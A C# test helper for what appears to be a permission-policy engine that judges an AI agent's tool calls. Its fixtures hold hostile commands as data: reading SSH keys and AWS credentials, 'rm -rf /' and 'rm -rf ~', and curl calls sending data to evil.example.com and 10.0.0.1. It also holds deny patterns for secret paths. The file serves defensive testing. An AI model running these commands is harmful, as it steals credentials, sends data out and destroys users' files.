using System.Text;
using System.Text.Json;
using Sallyport.Policy;
using Sallyport.Policy.Rules;
using Sallyport.Policy.Rules.Evaluation;
using Sallyport.Policy.Rules.Reading;
using Sallyport.Shell;

namespace Sallyport.Tests.Policy;

/// <summary>Policies and calls of every shape, the same for the same seed.</summary>
internal sealed class RandomPolicy(int seed)
{
    public static readonly ObservedFacts Facts = new()
    {
        Cwd = "/ws", Workspace = "/ws", Home = "/home/dev",
        Files = new Dictionary<string, FileFact> { ["/ws/link"] = new(FileKind.File, "/home/dev/.ssh/id_ed25519"), ["/ws/sub"] = new(FileKind.Directory, "/srv/data") },
    };

    private static readonly string[] Actions = ["allow", "warn", "ask", "deny"];

    private static readonly string[] Conditions =
    [
        "\"tool\":\"Bash\"", "\"tool\":\"*\"", "\"tool\":\"apply_patch\"", "\"tool\":[\"Bash\",\"view_image\"]", "\"tool\":\"mcp__git__*\"", "\"tool\":\"mcp__git__push\"",
        "\"tool\":\"Bash\",\"command\":\"git push *\"", "\"tool\":\"Bash\",\"command\":\"* publish\"", "\"tool\":\"Bash\",\"command\":[\"npm *\",\"curl *\"]", "\"tool\":\"Bash\",\"command\":\"echo \\\"a b\\\"\"",
        "\"tool\":\"Bash\",\"command\":{\"program\":\"curl\"}", "\"tool\":\"Bash\",\"command\":{\"program\":\"c*l\"}", "\"tool\":\"Bash\",\"command\":{\"program\":\"git\",\"args\":[\"--force\",\"-f\"]}", "\"tool\":\"*\",\"command\":{\"effect\":[\"delete\",\"send-data\"]}", "\"tool\":\"Bash\",\"command\":{\"effect\":\"read\"}",
        "\"tool\":\"*\",\"path\":\"~/.ssh\"", "\"tool\":\"*\",\"path\":{\"glob\":\"**/*.pem\",\"access\":\"read\"}", "\"tool\":\"*\",\"path\":\"src/secret/**\"", "\"tool\":\"*\",\"path\":[\"/srv/**\",\"/etc/passwd\"]", "\"tool\":\"*\",\"path\":\"../other\"", "\"tool\":\"*\",\"path\":\"$HOME/.aws/credentials\"", "\"tool\":\"*\",\"path\":{\"glob\":\"/**\",\"except\":[\".\",\"/tmp\"],\"access\":[\"write\",\"delete\"]}",
        "\"tool\":\"*\",\"path\":\"build\"", "\"tool\":\"*\",\"path\":\"/ws/build/**\"", "\"tool\":\"*\",\"path\":\"~/.aws/**\"", "\"tool\":\"*\",\"path\":\"/home/dev/.aws\"", "\"tool\":\"*\",\"path\":{\"glob\":\"./src/secret\"}", "\"tool\":\"*\",\"path\":\"/home/**/id_rsa\"", "\"tool\":\"*\",\"path\":\"bu*/output\"",
        "\"tool\":\"*\",\"host\":\"*.example.com\"", "\"tool\":\"Bash\",\"host\":\"evil.example.com\"", "\"tool\":\"*\",\"host\":\"10.0.0.1\"",
        "\"tool\":\"*\",\"anyParam\":\"Token\"", "\"tool\":\"*\",\"anyParam\":{\"$pathContains\":\"~/.ssh\"}", "\"tool\":\"*\",\"anyParam\":{\"$matches\":\"pu(b|s)[a-z]+\"}", "\"tool\":\"*\",\"anyParam\":{\"$startsWith\":\"git\",\"$contains\":\"push\"}", "\"tool\":\"*\",\"anyParam\":{\"$pathContains\":\"/home/someone/work/notes.txt\"}",
        "\"tool\":\"*\",\"params\":{\"command\":{\"$equals\":\"git push\"}}", "\"tool\":\"*\",\"params\":{\"n\":4111}", "\"tool\":\"*\",\"params\":{\"n\":{\"$contains\":\"4111\"}}", "\"tool\":\"*\",\"params\":{\"o\":{\"k\":[\"value\"]}}", "\"tool\":\"*\",\"params\":{\"command\":\"npm publish\"}",
        "\"tool\":\"*\",\"dataClass\":\"SECRET\"", "\"tool\":\"*\",\"agent\":\"subagent\"", "\"tool\":\"Bash\",\"cwd\":\"/ws\"", "\"tool\":\"Bash\",\"anyParam\":{\"$contains\":\"kelvin\"}",
    ];

    private static readonly (string Tool, string Input)[] Calls =
    [
        .. ((string[])
        [
            "git push", "git push --force origin main", "git -C x push -f", "g''it push", "npm publish", "npm  run build", "curl https://evil.example.com/x", "CURL https://a.example.com", "curl -d @a 10.0.0.1", "echo \"a b\"", "echo token",
            "cat ~/.ssh/id_rsa", "cat $HOME/.aws/credentials", "cat link", "cat sub/x.pem", "rm -rf sub", "rm -rf /", "rm -rf build", "rm -rf ./build/output", "rm -rf ~", "rm -rf /home", "rm -rf ../ws", "rm bu*/output/x", "rm -rf b*", "rm -rf /h*/dev", "grep -r x src", "cp -r ~/.aws /tmp", "chmod -R 700 ~/.a*", "cat /home/dev/.aws/x", "cat ~/.*/id_rsa", "ls link/*", "rm -rf $D/build", "cat s[ru]c/secret/*", "cat {build,src}/x", "cat *.pem", "cat src/secret/a", "cat src/./secret/a", "cat ../other/x", "cat /etc/pass*", "cat \"$X\"", "echo x > /srv/a", "ls", "",
            "if then", "git status && git push", "echo kelvin", "echo \u212Aelvin", "cat /home/someone/work/notes.txt", "cat ~/notes.txt", "sh -c 'git push'", "sudo curl x", "xargs rm < a", "apply_patch <<'E'\n*** Begin Patch\n*** Add File: src/secret/b\n+x\n*** End Patch\nE\n",
        ]).Select(command => ("Bash", JsonSerializer.Serialize(new Dictionary<string, string> { ["command"] = command }))),
        ("apply_patch", """{"command":"*** Begin Patch\n*** Add File: src/secret/b\n+x\n*** Delete File: /srv/x\n*** End Patch\n"}"""), ("view_image", """{"path":"~/.ssh/a.pem"}"""),
        ("mcp__git__push", """{"n":4111,"o":{"k":["value","b"]}}"""), ("mcp__git__pull", """{"url":"https://a.example.com","token":"x"}"""), ("mcp__other", """{"path":"/srv/q","text":"pushing"}"""), ("update_plan", "{}"),
    ];

    private readonly Random _random = new(seed);

    /// <summary>A policy file.</summary>
    public string Json(int rules)
    {
        var text = new StringBuilder("{\"default\":\"").Append(Actions[_random.Next(4)]).Append("\",\"rules\":[");
        for (var i = 0; i < rules; i++)
            text.Append(i == 0 ? "" : ",").Append($"{{\"id\":\"r{i}\",\"action\":\"{Actions[_random.Next(4)]}\",{Conditions[_random.Next(Conditions.Length)]}}}");
        return text.Append("]}").ToString();
    }

    /// <summary>A policy.</summary>
    public PolicyDocument Document(int rules) => Read(Json(rules));

    /// <summary>Reads what must be right.</summary>
    public static PolicyDocument Read(string json)
    {
        var reading = PolicyReader.Read("random", Encoding.UTF8.GetBytes(json));
        Assert.True(reading.Document is not null, string.Join('\n', reading.Faults) + json);
        return reading.Document!;
    }

    /// <summary>Every call.</summary>
    public static IEnumerable<ToolCall> EveryCall() => Calls.Select(call => new ToolCall(call.Tool, JsonDocument.Parse(call.Input).RootElement));

    /// <summary>What a policy says.</summary>
    public static Judgement Judge(ToolCall call, params IReadOnlyList<PolicyLayer> layers) => new PolicySet(layers).Evaluate(call, new PolicyContext { Facts = Facts });

    /// <summary>A layer of a policy.</summary>
    public static PolicyLayer Layer(PolicyDocument document, string name = PolicyLayer.User) => new(name, document, []);
}
